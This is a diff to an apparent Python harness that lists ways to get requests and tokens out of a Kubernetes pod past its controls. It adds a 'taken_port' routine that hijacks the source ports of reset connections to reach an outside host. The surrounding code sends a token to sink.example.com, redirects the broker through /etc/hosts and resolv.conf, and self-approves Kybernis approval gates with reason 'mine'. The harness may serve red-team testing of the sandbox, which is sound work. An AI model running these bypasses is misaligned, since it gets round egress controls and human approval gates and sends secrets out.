@@ -11,6 +11,7 @@ import ssl
 import struct
 import subprocess
 import sys
+import threading
 import time
 import urllib.error
 import urllib.request
@@ -25,6 +26,7 @@ MPTCP, UDPLITE, ECHO, ECHO6, CLONE_NEWUSER, RAW_IP = 262, 136, 8, 128, 0x1000000
 SIDECAR = 7400
 LOCAL_API = 7410
 BROKER = "http://broker.example.com:18080"
+OUTSIDE = ("198.19.0.1", 18080)
 ACCOUNT = "/var/run/secrets/kubernetes.io/serviceaccount"
 KYBERNIS = "https://kubernetes.default.svc/apis/kybernis.io/v1alpha1"
 
@@ -168,6 +170,49 @@ def quic(token, version=4):
     return (ended.stdout + ended.stderr).strip()
 
 
+def ports_to(address):
+    """The ports of this pod's connections to it, whosever they are."""
+    host, port = address
+    there = f"{socket.inet_aton(host)[::-1].hex().upper()}:{port:04X}"
+    with open("/proc/net/tcp") as table:
+        rows = [line.split() for line in table.readlines()[1:]]
+    return {int(row[1].split(":")[1], 16) for row in rows if row[2] == there}
+
+
+def taken_port(token):
+    """A connection that the far side has reset stays in the kernel's table of connections for some seconds. Its port is taken over."""
+    seen, over = set(), threading.Event()
+
+    def watch():
+        while not over.is_set():
+            seen.update(ports_to(OUTSIDE))
+
+    watcher = threading.Thread(target=watch)
+    watcher.start()
+    try:
+        order("/v1/refunds", f"{token}-first")
+    except OSError:
+        pass
+    over.set()
+    watcher.join()
+    body = json.dumps(placing.body(token))
+    head = "".join(f"{name}: {value}\r\n" for name, value in placing.HEADERS.items())
+    head += f"Host: broker.example.com:18080\r\nContent-Type: application/json\r\nContent-Length: {len(body)}\r\n"
+    heard = []
+    for port in seen:
+        with socket.socket() as connection:
+            connection.settimeout(PATIENCE_S)
+            connection.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+            try:
+                connection.bind(("0.0.0.0", port))
+                connection.connect(OUTSIDE)
+                connection.sendall(f"POST /v1/refunds HTTP/1.1\r\n{head}\r\n{body}".encode())
+                heard.append(answer(connection))
+            except OSError as error:
+                heard.append(str(error))
+    return ", ".join(heard) or "no port was seen"
+
+
 def without_variables(token):
     opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
     request = urllib.request.Request("http://sink.example.com/", data=token.encode())
@@ -282,14 +327,17 @@ def decide(decision):
     try:
         value = json.dumps({"gate_id": gate["metadata"]["name"], "status": decision, "reason": "mine"}).encode()
         url = f"http://127.0.0.1:{LOCAL_API}/infra/gate/decide"
-        said.append(str(call(urllib.request.Request(url, data=value, headers={"Content-Type": "application/json"}))[0]))
+        status, text = call(urllib.request.Request(url, data=value, headers={"Content-Type": "application/json"}))
+        said.append(f"{status} {json.loads(text).get('error', 'taken')}")
     except urllib.error.URLError as error:
         said.append(str(error.reason))
     names = {"APPROVED": "Approve", "NOT_EXECUTED": "NotExecuted"}
     spec = {"gate": gate["metadata"]["name"], "gateUid": gate["metadata"]["uid"], "digest": gate["spec"]["digest"]}
     word = {"apiVersion": "kybernis.io/v1alpha1", "kind": "GateDecision", "metadata": {"generateName": "mine-"}}
-    said.append(kubernetes("gatedecisions", {**word, "spec": {**spec, "decision": names[decision], "reason": "mine"}})[1])
-    return ", ".join(said)
+    _, text = kubernetes("gatedecisions", {**word, "spec": {**spec, "decision": names[decision], "reason": "mine"}})
+    # Of a refusal what follows on who asked.
+    said.append(re.sub(r".*(?=decides no gate)", "", json.loads(text).get("message", "taken")))
+    return "; ".join(said)
 
 
 def decided_by_itself(path, name, decision):
@@ -339,6 +387,7 @@ WAYS = {
     "setuid": as_the_sidecar,
     "user-namespace": in_a_user_namespace,
     "another-name": another_name,
+    "taken-port": taken_port,
     "hosts-file": lambda token: with_first_line("/etc/hosts", f"{SINK[4]} broker.example.com", token),
     "name-servers": lambda token: with_first_line("/etc/resolv.conf", f"nameserver {SINK[4]}", token),
     "as-named": as_named,
